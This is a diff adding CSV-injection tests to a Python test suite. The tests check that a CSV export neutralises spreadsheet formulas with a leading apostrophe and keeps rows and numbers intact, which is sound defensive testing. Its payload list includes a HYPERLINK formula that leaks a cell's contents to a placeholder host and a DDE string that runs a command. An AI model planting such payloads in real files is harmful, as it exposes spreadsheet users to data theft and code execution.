@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 import shutil
@@ -169,3 +170,53 @@ def test_escaped_text_has_no_bare_special_character(text: str):
     escaped = without_escapes(latex_escape(text))
     escaped = re.sub(r"\\[A-Za-z]+", "", escaped)  # control words: \textbackslash{}, \ensuremath{\leq}
     assert not re.search(r"[\\%$#_^~&]", escaped)
+
+
+# ------------------------------------------------------------ CSV injection --
+
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
+    "line one\rline two",
+    "=1+1\n=2+2",
+]
+
+
+def spreadsheet_cells(text: str) -> list[list[str]]:
+    """The cells as a spreadsheet reads a CSV: every field as it stands, quotes removed."""
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def runs_as_formula(cell: str) -> bool:
+    """What a spreadsheet would evaluate: a cell starting with a formula character, unless it is a number."""
+    try:
+        float(cell)
+    except ValueError:
+        return cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+    return False
+
+
+@pytest.mark.parametrize("name", HOSTILE_TEXT)
+def test_csv_never_hands_a_spreadsheet_a_formula(name):
+    table = pd.DataFrame({"Item": [name, "Bose"], "Query": ["-q1", name], "NDCG": [-0.5, 0.25]})
+    cells = spreadsheet_cells(to_csv(table))
+    assert len(cells) == 3, "a carriage return or line feed inside a name must not start a new row"
+    assert not [cell for row in cells for cell in row if runs_as_formula(cell)]
+    kept = "'" + name if name.startswith(("=", "+", "-", "@", "\t", "\r")) else name
+    assert cells[1][0] == kept  # the text is kept, behind an apostrophe where it would start a formula
+    assert [row[2] for row in cells[1:]] == ["-0.5", "0.25"]  # numbers, negative too, stay numbers
+
+
+def test_csv_keeps_text_that_only_looks_like_a_number():
+    table = pd.DataFrame({"qid": ["-5", "301"], "ndcg": [0.1, 0.2]})
+    assert [row[0] for row in spreadsheet_cells(to_csv(table))[1:]] == ["-5", "301"]
+
+
+@given(st.text(max_size=30))
+def test_no_text_cell_ever_runs_as_a_formula(name):
+    cells = spreadsheet_cells(to_csv(pd.DataFrame({"Item": [name], "value": [1.0]})))
+    assert len(cells) == 2 and not runs_as_formula(cells[1][0])
